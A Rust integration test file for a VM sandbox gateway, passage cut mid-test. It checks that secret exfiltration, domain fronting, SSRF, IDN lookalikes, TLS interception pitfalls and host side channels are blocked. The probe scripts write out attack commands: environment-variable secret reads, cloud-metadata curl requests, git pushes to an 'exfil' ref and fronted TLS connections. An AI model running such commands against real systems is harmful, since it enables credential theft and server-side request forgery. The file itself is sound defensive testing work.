p environ sh -c 'cat /proc/[0-9]*/environ | tr "\0" "\n" | grep -c "^API_KEY=hutch-ph-API_KEY-"'
p files sh -c 'echo "$API_KEY" > /root/key.txt; echo {marker} > /root/marker.txt; sync; echo written'
echo @@PAUSE
read resume
"#
    );
    let mut host_checks = None;
    let o = Vm::new(&net)
        .https(API)
        .http(API)
        .https(OTHER)
        .https(ECHO)
        .http(PLAIN)
        .upstream_ca()
        .args(&[
            "--secret",
            &format!("API_KEY@{API}"),
            "--secret",
            &format!("OTHER_KEY@{OTHER}"),
        ])
        .env("API_KEY", &real)
        .env("OTHER_KEY", &other_real)
        .run_paused(&script, |hutch_pid| {
            let qemu = qemu_of(hutch_pid);
            let environ = std::fs::read(format!("/proc/{qemu}/environ")).expect("QEMU environ");
            let cmdline = std::fs::read(format!("/proc/{qemu}/cmdline")).expect("QEMU cmdline");
            let in_env = memchr::memmem::find(&environ, real.as_bytes()).is_some()
                || memchr::memmem::find(&environ, other_real.as_bytes()).is_some();
            let in_cmdline = memchr::memmem::find(&cmdline, real.as_bytes()).is_some();
            let dir = sandbox_dir_of(qemu);
            let files: Vec<(String, bool, bool)> = std::fs::read_dir(&dir)
                .expect("sandbox dir")
                .flatten()
                .filter(|e| e.file_type().map(|t| t.is_file()).unwrap_or(false))
                .map(|e| {
                    (
                        e.file_name().to_string_lossy().into_owned(),
                        file_contains(&e.path(), &real),
                        file_contains(&e.path(), &marker),
                    )
                })
                .collect();
            let in_memory = memory_contains(qemu, &[&real, &other_real, &marker]);
            host_checks = Some((in_env, in_cmdline, qemu, files, in_memory));
        });
    assert_eq!(o.code, Some(0), "{}", o.dump());
    let placeholder = o.ok("env-key").trim().to_string();
    assert!(
        placeholder.starts_with("hutch-ph-API_KEY-"),
        "{placeholder}"
    );
    assert_ne!(placeholder, real);

    let auth_at = |path: &str| {
        requests_at(&net, path)
            .first()
            .and_then(|s| s.header("authorization").map(str::to_string))
            .unwrap_or_else(|| panic!("{path} not received: {:?}", net.requests()))
    };
    // The bound host gets the value over intercepted TLS, via the proxy and the transparent path.
    assert_eq!(auth_at("/v1/swap"), format!("Bearer {real}"));
    assert_eq!(auth_at("/v1/tunnel-swap"), format!("Bearer {real}"));
    assert_eq!(
        requests_at(&net, "/reflect/authorization")[0].header("authorization"),
        Some(real.as_str())
    );
    // ... and echoes of it come back masked.
    for probe in ["swap", "tunnel-swap", "reflect"] {
        assert!(
            !o.ok(probe).contains(&real),
            "{probe} showed the VM the real value: {}",
            o.ok(probe)
        );
        assert!(
            o.ok(probe).contains(&placeholder),
            "{probe}: {}",
            o.ok(probe)
        );
    }
    assert!(o
        .ok("reflect")
        .to_ascii_lowercase()
        .contains(&format!("x-reflected: {placeholder}").to_ascii_lowercase()));
    // Everywhere else the placeholder arrives unchanged.
    let other_placeholder = auth_at("/v1/cross");
    assert!(
        other_placeholder.starts_with("Bearer hutch-ph-OTHER_KEY-"),
        "{other_placeholder}"
    );
    for path in [
        "/v1/to-other",
        "/v1/plaintext",
        "/v1/plain-other",
        "/v1/passthrough",
        "/v1/landed",
    ] {
        assert_eq!(auth_at(path), format!("Bearer {placeholder}"), "{path}");
    }
    let landed_via = requests_at(&net, "/v1/landed");
    assert_eq!(landed_via[0].host().as_deref(), Some(OTHER));
    assert!(
        requests_at(&net, &format!("/redirect?to=https://{OTHER}:{p}/v1/landed"))[0]
            .header("authorization")
            == Some(&format!("Bearer {real}")),
        "the first hop, to the bound host, was swapped"
    );
    assert!(
        requests_at(&net, &format!("/v1/url?key={placeholder}")).len() == 1,
        "no swap in URLs"
    );
    // Bodies are streamed, not searched, unless a secret bound to the host says in_body.
    assert_eq!(
        requests_at(&net, "/v1/body")[0].body,
        format!("key={placeholder}"),
        "no swap in bodies unless the policy says in_body"
    );

    // The audit log flags every unswapped placeholder it could see, by name, never by value.
    let flagged = |path: &str, flag: &str| {
        let recs: Vec<_> = o
            .audit
            .iter()
            .filter(|r| {
                r["event"] == "request" && r["path"].as_str().is_some_and(|p| p.starts_with(path))
            })
            .collect();
        assert!(
            !recs.is_empty(),
            "no audit record for {path}: {}",
            o.audit_text()
        );
        assert!(
            recs.iter().any(|r| r["flags"]
                .as_array()
                .is_some_and(|f| f.iter().any(|x| x == flag))),
            "{path} should be flagged {flag}: {recs:?}"
        );
    };
    flagged("/v1/cross", "possible_exfiltration:OTHER_KEY");
    flagged("/v1/to-other", "possible_exfiltration:API_KEY");
    flagged("/v1/landed", "possible_exfiltration:API_KEY");
    flagged("/v1/plaintext", "placeholder_over_plaintext:API_KEY");
    flagged("/v1/plain-other", "possible_exfiltration:API_KEY");
    flagged("/v1/url", "placeholder_in_url_not_swapped:API_KEY");
    flagged("/v1/swap", "masked_in_response:API_KEY:literal");
    flagged("/v1/body", "placeholder_in_body_not_swapped:API_KEY");
    let swap = o
        .audit
        .iter()
        .find(|r| r["path"] == "/v1/swap")
        .expect("swap record");
    assert!(
        swap["secrets"]
            .as_array()
            .is_some_and(|s| s.iter().any(|x| x == "API_KEY")),
        "{swap}"
    );

    // Class 12: nothing in the VM or around it holds the real value.
    assert!(
        o.ok("environ").trim().parse::<u32>().expect("count") >= 1,
        "the placeholder is in the guest's process environments"
    );
    let (in_env, in_cmdline, qemu, files, in_memory) = host_checks.expect("the guest paused");
    assert!(
        !in_env,
        "QEMU (pid {qemu}) inherited the secret in its environment"
    );
    assert!(!in_cmdline, "QEMU's command line holds the secret");
    assert!(
        in_memory[2],
        "the marker the guest wrote is in QEMU's memory, so the scan sees guest RAM"
    );
    assert!(
        !in_memory[0] && !in_memory[1],
        "a real value is in QEMU's memory (guest RAM or the VMM itself)"
    );
    assert!(
        files.iter().any(|(n, _, m)| n == "disk.qcow2" && *m),
        "the guest's synced file is in disk.qcow2, so the grep can see the disk: {files:?}"
    );
    for (name, has_real, _) in &files {
        assert!(
            !has_real,
            "{name} in the sandbox directory holds the real value"
        );
    }
    for (what, text) in [("stdout", &o.stdout), ("stderr", &o.stderr)] {
        assert!(
            !text.contains(&real) && !text.contains(&other_real),
            "hutch's {what} holds a real value"
        );
    }
    let audit = o.audit_text();
    assert!(
        !audit.contains(&real) && !audit.contains(&other_real),
        "the audit log holds a real value"
    );
}

/// Class 5 (domain fronting), and the upgrade half of 13: on a host that carries a secret, TLS is
/// always terminated and SNI, CONNECT authority and Host must agree; a passthrough host cannot
/// be used to reach the secret host by SNI; connections without SNI are refused; upgrades other
/// than WebSocket (h2c) are refused on inspected connections; HTTP/2 is offered (the test net
/// speaks it) and each of its requests must name the connection's authority (421 otherwise). A client that waits before its ClientHello (on a port other
/// than 443, where the gateway also carries server-speaks-first protocols) gets the same checks on
/// a secret host.
#[test]
fn threat5_domain_fronting_onto_a_secret_host_is_refused() {
    let net = TestNet::start().expect("testnet");
    let (Some(api_web), Some(other_web)) = (net.allow_web_https(API), net.allow_web_https(OTHER))
    else {
        println!("SKIPPED: the test net could not bind ports 443/80 (needs root or CAP_NET_BIND_SERVICE); domain fronting on web ports not tested");
        return;
    };
    let p = net.https_port();
    let key = format!("sk-front-{}", random_hex(16));
    let script = format!(
        r#"
p front-ok probe tls-connect {API}:443 {API} {API} /front-ok
p sni-secret-via-other probe tls-connect {OTHER}:443 {API} {API} /front-1
p sni-other-via-secret probe tls-connect {API}:443 {OTHER} {OTHER} /front-2
p host-other-on-secret probe tls-connect {API}:443 {API} {OTHER} /front-3
p no-sni probe tls-connect {OTHER}:443 - {OTHER} /front-4
p tunnel-sni-secret-via-other probe tls-direct $(fake {OTHER}) 443 {API} {API} /front-5
p tunnel-ok probe tls-direct $(fake {API}) 443 {API} {API} /front-ok2
p curl-connect-to curl -sS --connect-to {API}:443:{OTHER}:443 -H "Authorization: Bearer $API_KEY" https://{API}/front-9
p curl-host-header curl -sS --fail-with-body -H 'Host: {OTHER}' -H "Authorization: Bearer $API_KEY" https://{API}/front-6
p h2c curl -sS --fail-with-body --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: h2c' https://{API}/ws
p h2 curl -sS --fail --http2 -o /dev/null -w '%{{http_version}}' https://{API}/h2
p slow-sni-other-via-secret probe tls-connect-slow {API}:{p} {OTHER} {OTHER}:{p} /front-7
p slow-host-other-on-secret probe tls-connect-slow {API}:{p} {API} {OTHER}:{p} /front-8
p slow-ok probe tls-connect-slow {API}:{p} {API} {API}:{p} /front-ok3
"#
    );
    let o = Vm::new(&net)
        .args(&api_web.iter().map(String::as_str).collect::<Vec<_>>())
        .args(&other_web.iter().map(String::as_str).collect::<Vec<_>>())
        .https(API)
        .upstream_ca()
        .args(&["--secret", &format!("API_KEY@{API}")])
        .env("API_KEY", &key)
        .run(&script);
    assert_eq!(o.code, Some(0), "{}", o.dump());
    for probe in ["front-ok", "tunnel-ok", "slow-ok"] {
        assert!(
            o.ok(probe).starts_with("HTTP/1.1 200"),
            "{probe}: {}",
            o.ok(probe)
        );
    }
    // A mismatched or missing SNI is cut off before the handshake completes.
    for probe in [
        "sni-secret-via-other",
        "sni-other-via-secret",
        "no-sni",
        "tunnel-sni-secret-via-other",
        "slow-sni-other-via-secret",
    ] {
        assert_eq!(
            o.probe(probe).rc,
            2,
            "{probe}: {}\n{}",
            o.probe(probe).out,
            o.audit_text()
        );
    }
    assert_eq!(
        o.probe("curl-connect-to").rc,
        35,
        "TLS handshake refused: {}",
        o.probe("curl-connect-to").out
    );
    o.refused_with("host-other-on-secret", "421");
    o.refused_with("slow-host-other-on-secret", "421");
    o.refused_with("curl-host-header", "authority mismatch");
    o.refused_with("h2c", "upgrades");
    assert_eq!(
        o.ok("h2"),
        "2\n",
        "HTTP/2 is negotiated on intercepted connections when the upstream speaks it"
    );
    let mut paths: Vec<String> = net.requests().into_iter().map(|s| s.path).collect();
    paths.sort();
    assert_eq!(
        paths,
        vec!["/front-ok", "/front-ok2", "/front-ok3", "/h2"],
        "nothing fronted reached the test net"
    );
    let reasons = o
        .audit
        .iter()
        .filter(|r| r["decision"] == "deny")
        .filter_map(|r| r["reason"].as_str())
        .collect::<Vec<_>>()
        .join("\n");
    assert!(
        reasons.contains(&format!(
            "TLS server name {API} does not match destination {OTHER}"
        )),
        "{reasons}"
    );
    assert!(
        reasons.contains(&format!(
            "TLS server name {OTHER} does not match destination {API}"
        )),
        "{reasons}"
    );
    assert!(reasons.contains("no server name"), "{reasons}");
}

/// Class 7 (broad allowed hosts as exfiltration channels): method and path rules from a policy
/// file hold on the proxy and the transparent path alike; dot segments and encoded separators do
/// not escape a prefix; a git host that allows fetching refuses pushes.
#[test]
fn threat7_method_and_path_rules_from_a_policy_file() {
    let net = TestNet::start().expect("testnet");
    net.create_git_repo("repo.git", &[("README", "read-only\n")])
        .expect("repo");
    let p = net.https_port();
    let policy = net.dir().join("policy.toml");
    std::fs::write(
        &policy,
        format!(
            r#"
allow = [
  {{ host = "{ECHO}", ports = [{p}], methods = ["GET", "HEAD"], paths = ["/allowed/"] }},
  {{ host = "{GIT}", ports = [{p}], methods = ["GET", "POST"], paths = ["/repo.git/info/refs", "/repo.git/git-upload-pack"] }},
]
resolve = ["{ECHO}:{p}:127.0.0.1", "{GIT}:{p}:127.0.0.1"]
upstream_ca = ["{ca}"]
"#,
            ca = net.ca_file().display()
        ),
    )
    .expect("write policy");
    let script = format!(
        r#"
p get-ok curl -sS --fail https://{ECHO}:{p}/allowed/x
p get-ok-tunnel curl -sS --fail --noproxy '*' https://{ECHO}:{p}/allowed/y
p post curl -sS --fail-with-body -X POST -d leak https://{ECHO}:{p}/allowed/x
p post-tunnel curl -sS --fail-with-body --noproxy '*' -X POST -d leak https://{ECHO}:{p}/allowed/x
p put curl -sS --fail-with-body -X PUT -d leak https://{ECHO}:{p}/allowed/x
p other-path curl -sS --fail-with-body https://{ECHO}:{p}/private
p prefix-sibling curl -sS --fail-with-body https://{ECHO}:{p}/allowedx
p dot-dot curl -sS --fail-with-body --path-as-is https://{ECHO}:{p}/allowed/../private
p encoded curl -sS --fail-with-body --path-as-is https://{ECHO}:{p}/allowed/%2e%2e/private
p encoded-slash curl -sS --fail-with-body --path-as-is https://{ECHO}:{p}/allowed%2f..%2fprivate
p git-clone sh -c 'git clone -q https://{GIT}:{p}/repo.git /root/repo && cat /root/repo/README'
p git-push sh -c 'cd /root/repo && git -c user.name=a -c user.email=a@example.test commit -q --allow-empty -m leak && git push origin HEAD:refs/heads/exfil'
"#
    );
    let policy_arg = policy.display().to_string();
    let o = Vm::new(&net).args(&["--policy", &policy_arg]).run(&script);
    assert_eq!(o.code, Some(0), "{}", o.dump());
    assert!(o.ok("get-ok").contains("/allowed/x"));
    assert!(o.ok("get-ok-tunnel").contains("/allowed/y"));
    for probe in ["post", "post-tunnel", "put"] {
        o.refused_with(probe, "not allowed");
        // The VM learns which rule refused it, by source kind and index, never the host's path of the file.
        let out = o.refused(probe);
        assert!(out.contains("(policy file allow[0])") && !out.contains(&policy_arg), "probe {probe}: {out}");
    }
    for probe in [
        "other-path",
        "prefix-sibling",
        "dot-dot",
        "encoded",
        "encoded-slash",
    ] {
        o.refused_with(probe, "403");
    }
    assert_eq!(o.ok("git-clone").trim(), "read-only");
    o.refused("git-push");
    assert!(
        !net.git_refs("repo.git").expect("refs").contains("exfil"),
        "the push did not land"
    );
    for s in net.requests() {
        assert!(
            s.method == "GET" || (s.method == "POST" && s.path == "/repo.git/git-upload-pack"),
            "{} {} reached the test net",
            s.method,
            s.path
        );
        assert!(
            !s.path.contains("private") && !s.path.contains("receive-pack")
                || s.path.starts_with("/repo.git/info/refs"),
            "{} reached the test net",
            s.path
        );
        assert!(
            !s.body.contains("leak"),
            "a refused body reached the test net: {}",
            s.path
        );
    }
}

/// Class 8 (SSRF): metadata addresses and names, the host's own addresses and names that resolve
/// to loopback without a pin are refused, even when allowed by name; the guest's loopback is its
/// own. The test net listens on the host's loopback, so any of these getting through would show
/// up as a request there.
#[test]
fn threat8_ssrf_targets_are_refused() {
    let net = TestNet::start().expect("testnet");
    let (p, hp) = (net.https_port(), net.http_port());
    let host_name = std::fs::read_to_string("/proc/sys/kernel/hostname")
        .expect("hostname")
        .trim()
        .to_string();
    let host_addrs: Vec<String> = std::process::Command::new("hostname")
        .arg("-I")
        .output()
        .map(|o| {
            text(&o.stdout)
                .split_whitespace()
                .map(str::to_string)
                .collect()
        })
        .unwrap_or_default();
    let host_ip = host_addrs
        .iter()
        .find(|a| !a.contains(':'))
        .cloned()
        .unwrap_or_else(|| "192.0.2.2".into());
    let allow_host_name = host_name.contains('.')
        || std::net::ToSocketAddrs::to_socket_addrs(&(host_name.as_str(), 80)).is_ok();
    let mut vm = Vm::new(&net).https(ECHO).args(&[
        "--allow",
        &format!("localhost:{p}"),
        "--allow",
        &format!("localhost:{hp}"),
        "--allow",
        "metadata.google.internal",
    ]);
    if allow_host_name {
        vm = vm.args(&["--allow", &format!("{host_name}:{p}")]);
    }
    let script = format!(
        r#"
p ok curl -sS --fail https://{ECHO}:{p}/ssrf-ok
p metadata-proxy curl -sS --fail-with-body --max-time 20 http://169.254.169.254/latest/meta-data/
p metadata-direct curl -sS --max-time 20 --noproxy '*' http://169.254.169.254/latest/meta-data/
p metadata6-proxy curl -sS --fail-with-body --max-time 20 'http://[fd00:ec2::254]/latest/meta-data/'
p gce-proxy curl -sS --fail-with-body --max-time 30 -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/
p gce-tunnel curl -sS --max-time 30 --noproxy '*' -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/
p localhost-connect curl -sS --max-time 30 --proxy http://127.0.0.1:3128 --noproxy '' https://localhost:{p}/ssrf-localhost
p localhost-abs curl -sS --fail-with-body --max-time 30 --proxy http://127.0.0.1:3128 --noproxy '' http://localhost:{hp}/ssrf-localhost-abs
p localhost-tunnel curl -sS --max-time 30 --noproxy '*' https://localhost:{p}/ssrf-guest-loopback
p hostname-connect curl -sS --max-time 30 https://{host_name}:{p}/ssrf-hostname
p host-ip-proxy curl -sS --fail-with-body --max-time 20 http://{host_ip}:{hp}/ssrf-host-ip
p host-ip-direct curl -sS --max-time 20 --noproxy '*' http://{host_ip}:{hp}/ssrf-host-ip-direct
p slirp-host curl -sS --max-time 20 --noproxy '*' http://10.0.2.2:{hp}/ssrf-slirp
"#
    );
    let o = vm.run(&script);
    assert_eq!(o.code, Some(0), "{}", o.dump());
    assert!(o.ok("ok").contains("/ssrf-ok"));
    o.refused_with("metadata-proxy", "IP address 169.254.169.254");
    assert_eq!(
        o.probe("metadata-direct").rc,
        7,
        "{}",
        o.probe("metadata-direct").out
    );
    o.refused_with("metadata6-proxy", "IP address fd00:ec2::254");
    // Allowed by name, but it resolves nowhere usable: the gateway refuses instead of dialing.
    o.refused_with("gce-proxy", "metadata.google.internal:80");
    o.refused("gce-tunnel");
    o.refused_with("localhost-connect", "403");
    o.refused_with("localhost-abs", "forbidden addresses");
    // Without the proxy, localhost is the guest's own loopback: nothing there.
    assert_eq!(
        o.probe("localhost-tunnel").rc,
        7,
        "{}",
        o.probe("localhost-tunnel").out
    );
    if allow_host_name {
        o.refused_with("hostname-connect", "403");
    } else {
        println!(
            "host name {host_name:?} does not resolve here; its probe only checks the plain denial"
        );
        o.refused("hostname-connect");
    }
    o.refused_with("host-ip-proxy", "IP address");
    assert_eq!(
        o.probe("host-ip-direct").rc,
        7,
        "{}",
        o.probe("host-ip-direct").out
    );
    assert_eq!(o.probe("slirp-host").rc, 7, "{}", o.probe("slirp-host").out);
    let paths: Vec<String> = net.requests().into_iter().map(|s| s.path).collect();
    assert_eq!(
        paths,
        vec!["/ssrf-ok"],
        "only the pinned, allowed request reached the host's loopback"
    );
    let localhost = format!("localhost:{p}");
    assert!(
        o.audit_where("dest", &localhost)
            .iter()
            .any(|r| r["decision"] == "deny"
                && r["reason"].as_str().is_some_and(|s| s.contains("loopback"))),
        "{}",
        o.audit_text()
    );
}

/// Class 9 (IDN lookalikes and matching): names are compared as UTS-46 A-labels on label
/// boundaries, the same way for DNS answers and for CONNECT: Cyrillic lookalikes,
/// `allowed.evil`, `evilallowed`, and the bare parent of a wildcard do not match; full-width
/// letters map to the allowed name itself, so they reach only that name.
#[test]
fn threat9_lookalike_and_suffix_names_do_not_match() {
    let net = TestNet::start().expect("testnet");
    let p = net.https_port();
    let shop = "shop.example.test";
    let cdn_host = "img.cdn.example.test";
    // (probe, name as UTF-8, allowed by DNS, allowed by CONNECT)
    let cases: &[(&str, &str, bool, bool)] = &[
        ("exact", shop, true, true),
        ("case-dot", "SHOP.Example.TEST.", true, true),
        ("wildcard-sub", cdn_host, true, true),
        ("wildcard-deeper", "a.img.cdn.example.test", true, true),
        ("suffix-attack", "shop.example.test.evil.test", false, false),
        ("prefix-attack", "evilshop.example.test", false, false),
        ("hyphen-attack", "evil-shop.example.test", false, false),
        ("wildcard-apex", "cdn.example.test", false, false),
        ("wildcard-glued", "imgcdn.example.test", false, false),
        (
            "wildcard-suffix",
            "img.cdn.example.test.evil.test",
            false,
            false,
        ),
        ("cyrillic-s", "\u{0455}hop.example.test", false, false),
        ("cyrillic-o", "sh\u{043e}p.example.test", false, false),
        (
            "punycode-lookalike",
            "xn--hop-1ed.example.test",
            false,
            false,
        ),
        (
            "fullwidth-letters",
            "\u{ff53}\u{ff48}\u{ff4f}\u{ff50}.example.test",
            true,
            false,
        ),
    ];
    let mut script = String::new();
    for (probe, name, _, _) in cases {
        // The same bytes through the guest's resolver (as a dotted name) and in a CONNECT.
        script.push_str(&format!("p dns-{probe} probe dns 127.0.0.53 '{name}'\n"));
        script.push_str(&format!("p connect-{probe} probe proxy '\"CONNECT {name}:{p} HTTP/1.1\\r\\nHost: {name}:{p}\\r\\n\\r\\n\"'\n"));
    }
    script.push_str(&format!(
        "p curl-cyrillic curl -sS --max-time 20 'https://\u{0455}hop.example.test:{p}/idn-curl'\n"
    ));
    script.push_str(&format!("p curl-fullwidth-tunnel curl -sS --max-time 20 --noproxy '*' -k 'https://\u{ff53}\u{ff48}\u{ff4f}\u{ff50}.example.test:{p}/idn-fullwidth'\n"));
    let o = Vm::new(&net)
        .args(&[
            "--allow",
            &format!("{shop}:{p}"),
            "--resolve",
            &format!("{shop}:{p}:127.0.0.1"),
            "--allow",
            &format!("*.cdn.example.test:{p}"),
        ])
        .args(&[
            "--resolve",
            &format!("{cdn_host}:{p}:127.0.0.1"),
            "--resolve",
            &format!("a.img.cdn.example.test:{p}:127.0.0.1"),
        ])
        .run(&script);
    assert_eq!(o.code, Some(0), "{}", o.dump());
    for (probe, name, dns_ok, connect_ok) in cases {
        let dns = o.probe(&format!("dns-{probe}"));
        assert_eq!(
            dns.rc == 0,
            *dns_ok,
            "DNS for {name:?} ({probe}): {}",
            dns.out
        );
        let conn = o.probe(&format!("connect-{probe}"));
        assert_eq!(
            conn.rc == 0,
            *connect_ok,
            "CONNECT {name:?} ({probe}): {}",
            conn.out
        );
        if !connect_ok {
            assert!(
                conn.out.starts_with("HTTP/1.1 4"),
                "CONNECT {name:?} ({probe}) refused by the gateway: {}",
                conn.out
            );
        }
    }
    assert_eq!(
        o.probe("curl-cyrillic").rc,
        56,
        "{}",
        o.probe("curl-cyrillic").out
    );
    // Whatever spelling got through went to the allowed name, decided on its canonical form.
    for r in o
        .audit
        .iter()
        .filter(|r| r["decision"] == "allow" && r["event"] == "connection")
    {
        let d = r["dest"].as_str().unwrap_or("");
        assert!(
            d == format!("{shop}:{p}")
                || d == format!("{cdn_host}:{p}")
                || d == format!("a.img.cdn.example.test:{p}"),
            "allowed decision on a non-canonical name: {r}"
        );
    }
    for s in net.requests() {
        assert_eq!(
            s.sni.as_deref(),
            Some(shop),
            "only the allowed name was reached: {s:?}"
        );
    }
}

/// Class 13 (TLS interception pitfalls): the sandbox CA is per sandbox (two runs get different
/// CAs, and a leaf from one does not verify in the other), it is name-constrained to the
/// intercepted hosts, its key is nowhere in the guest, and upstream certificates are verified
/// (without the test CA the gateway refuses to talk to the test server).
#[test]
fn threat13_sandbox_ca_is_per_sandbox_keyless_and_upstream_is_verified() {
    let net = TestNet::start().expect("testnet");
    let p = net.https_port();
    let key = format!("sk-ca-{}", random_hex(16));
    let script = format!(
        r#"
p hutch-dir ls /etc/hutch
p ca cat /etc/hutch/ca.crt
p in-bundle python3 -c 'import sys; b=open("/etc/ssl/certs/ca-certificates.crt").read(); c=open("/etc/hutch/ca.crt").read().strip(); sys.exit(0 if c in b else 1)'
p constraints openssl x509 -in /etc/hutch/ca.crt -noout -ext nameConstraints,basicConstraints
p pem-keys probe pemkeys
p leaf probe peer-cert $(fake {API}) {p} {API}
p verify-own sh -c 'python3 /root/probe.py peer-cert $(getent hosts {API} | cut -d" " -f1) {p} {API} > /root/leaf.pem && openssl verify -CAfile /etc/hutch/ca.crt /root/leaf.pem'
p verify-other sh -c 'test -f /root/other-leaf.pem && openssl verify -CAfile /etc/hutch/ca.crt /root/other-leaf.pem'
p request curl -sS --fail-with-body -H "Authorization: Bearer $API_KEY" https://{API}:{p}/ca-check
"#
    );
    let run = |extra: &[&str], upstream_ca: bool| {
        let mut vm = Vm::new(&net)
            .https(API)
            .args(&["--secret", &format!("API_KEY@{API}")])
            .env("API_KEY", &key)
            .args(extra);
        if upstream_ca {
            vm = vm.upstream_ca();
        }
        vm.run(&script)
    };
    let a = run(&[], true);
    assert_eq!(a.code, Some(0), "{}", a.dump());
    assert_eq!(
        a.ok("hutch-dir").trim(),
        "ca.crt",
        "only the certificate is in /etc/hutch"
    );
    a.ok("in-bundle");
    let constraints = a.ok("constraints");
    assert!(
        constraints.contains("CA:TRUE") && constraints.contains(&format!("DNS:{API}")),
        "{constraints}"
    );
    a.refused_with("pem-keys", "private keys: none");
    a.ok("verify-own");
    assert!(a.ok("request").contains("/ca-check"));

    // A second sandbox: its own CA; the first sandbox's leaf means nothing to it. Without the
    // test CA, the gateway cannot verify the upstream and refuses to forward.
    let leaf_a = net.dir().join("leaf-a.pem");
    std::fs::write(&leaf_a, a.ok("leaf")).expect("write leaf");
    let copy = format!("{}:/root/other-leaf.pem", leaf_a.display());
    let failed_before = net.tls_handshakes_failed();
    let b = run(&["--copy-in", &copy], false);
    assert_eq!(b.code, Some(0), "{}", b.dump());
    assert_ne!(a.ok("ca"), b.ok("ca"), "two sandboxes share a CA");
    assert!(a.ok("ca").contains("BEGIN CERTIFICATE") && b.ok("ca").contains("BEGIN CERTIFICATE"));
    b.ok("verify-own");
    b.refused("verify-other");
    b.refused_with("request", "502");
    assert!(
        b.probe("request").out.contains("upstream TLS"),
        "{}",
        b.probe("request").out
    );
    assert!(
        net.tls_handshakes_failed() > failed_before,
        "the gateway's handshake with the test server failed verification"
    );
    assert_eq!(
        requests_at(&net, "/ca-check").len(),
        1,
        "only the verified run reached the test server"
    );
}

/// Class 14 (side channels to the host): the guest has one virtio-serial port (the agent's), no
/// network or vsock device, no other console input, and the command inherits only its pipes.
#[test]
fn threat14_no_side_channels_to_the_host() {
    let net = TestNet::start().expect("testnet");
    let o = Vm::new(&net).run(
        r#"
p ports ls /sys/class/virtio-ports
p port-names sh -c 'cat /sys/class/virtio-ports/*/name'
p virtio-devices sh -c 'cat /sys/bus/virtio/devices/*/device | sort'
p block-ro sh -c 'for d in /sys/block/vd*; do cat $d/ro; done | sort | tr "\n" " "'
p links ip -o link
p vsock-host probe vsock 2 1024
p vsock-any probe vsock 1 1024
p fds sh -c 'ls -l /proc/$PPID/fd | tail -n +2'
p serial-input timeout 3 head -c 1 /dev/ttyS0
p qmp-greeting sh -c 'printf "{\"execute\":\"qmp_capabilities\"}\n" > /dev/ttyS0; timeout 3 head -c 1 /dev/ttyS0'
p unix-sockets sh -c 'ss -xlH | wc -l'
"#,
    );
    assert_eq!(o.code, Some(0), "{}", o.dump());
    assert_eq!(
        o.ok("ports").split_whitespace().count(),
        1,
        "{}",
        o.ok("ports")
    );
    assert_eq!(o.ok("port-names").trim(), "hutch.agent");
    // 0x0002 block (the root disk, and the read-only workspace and workspace base drive slots), 0x0003 console
    // (the serial port), 0x0004 entropy; no net (1), 9p (9), vsock (0x13).
    assert_eq!(
        o.ok("virtio-devices")
            .split_whitespace()
            .collect::<Vec<_>>(),
        vec!["0x0002", "0x0002", "0x0002", "0x0003", "0x0004"]
    );
    // Of the three drives only the root disk is writable: both workspace slots are read-only to the guest.
    assert_eq!(o.ok("block-ro").trim(), "0 1 1", "{}", o.ok("block-ro"));
    assert_eq!(o.ok("links").lines().count(), 1);
    o.refused("vsock-host");
    o.refused("vsock-any");
    for line in o.ok("fds").lines() {
        assert!(
            line.contains("pipe:") || line.contains("/dev/null") || line.contains("/proc/"),
            "unexpected inherited descriptor: {line}"
        );
    }
    // The serial console is output-only: nothing answers, QMP least of all.
    assert_eq!(
        o.probe("serial-input").rc,
        124,
        "{}",
        o.probe("serial-input").out
    );
    assert_eq!(
        o.probe("qmp-greeting").rc,
        124,
        "{}",
        o.probe("qmp-greeting").out
    );
    assert_eq!(net.requests().len(), 0);
}

// --- the setup phase -----------------------------------------------------------------------

const REGISTRY: &str = "pkgs.example.test";
const TOKEN_HOST: &str = "tok.example.test";

/// A setup script for `hutch run --setup`, in a file that lives as long as the test.
fn setup_file(dir: &std::path::Path, body: &str) -> String {
    let path = dir.join("setup.sh");
    std::fs::write(
        &path,
        format!("#!/bin/sh\nset -e\ncat /root/testnet-ca.pem >> /etc/ssl/certs/ca-certificates.crt\n{body}"),
    )
    .expect("write the setup script");
    path.display().to_string()
}

/// Python that keeps one HTTPS connection to URL's host open, one request every 0.3 s, until it
/// breaks; then tries a new connection once. Its log says which requests got through.
const KEEPALIVE: &str = r#"
import http.client, ssl, sys, time
host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
ctx = ssl.create_default_context()
c = http.client.HTTPSConnection(host, port, context=ctx, timeout=10)
i = 0
while True:
    i += 1
    try:
        c.request("GET", "%s?keepalive=%d" % (path, i))
        r = c.getresponse(); r.read()
        print("ok", i, r.status, flush=True)
    except Exception as e:
        print("cut", i, type(e).__name__, flush=True)
        break
    time.sleep(0.3)
try:
    c2 = http.client.HTTPSConnection(host, port, context=ctx, timeout=10)
    c2.request("GET", path + "?reconnect=1")
    print("reconnected", c2.getresponse().status, flush=True)
except Exception as e:
    print("reconnect refused", type(e).__name__, flush=True)
"#;

/// The setup phase reaches what is allowed for it (a package registry, where apt installs a
/// package from), and the command does not: the registry is denied to it (and audited in its
/// phase), and a connection a background process of the setup script kept open is closed when
/// the setup phase ends.
#[test]
fn setup_phase_installs_from_its_registry_and_the_command_cannot_reach_it() {
    let net = TestNet::start().expect("testnet");
    net.publish_demo_debian_repo();
    let p = net.https_port();
    let keepalive = net.dir().join("keepalive.py");
    std::fs::write(&keepalive, KEEPALIVE).expect("keepalive script");
    let setup = setup_file(
        net.dir(),
        &format!(
            r#"rm -f /etc/apt/sources.list.d/*
echo "deb [trusted=yes] https://{REGISTRY}:{p}/files/debian ./" > /etc/apt/sources.list.d/test-registry.list
apt-get update -q
apt-get install -y -q hutch-demo
echo "setup sees: $(hutch-demo)"
python3 /root/keepalive.py {REGISTRY} {p} /files/debian/Packages < /dev/null > /root/keepalive.log 2>&1 &
for i in $(seq 100); do grep -q '^ok' /root/keepalive.log && break; sleep 0.1; done
"#
        ),
    );
    let o = Vm::new(&net)
        .args(&[
            "--setup",
            &setup,
            "--setup-allow",
            &format!("{REGISTRY}:{p}"),
            "--resolve",
            &format!("{REGISTRY}:{p}:127.0.0.1"),
            "--copy-in",
            &format!("{}:/root/keepalive.py", keepalive.display()),
        ])
        .run(&format!(
            r#"
p demo hutch-demo
p registry curl -sS --max-time 20 https://{REGISTRY}:{p}/files/debian/Packages
p apt sh -c 'cd /tmp && apt-get download hutch-demo 2>&1'
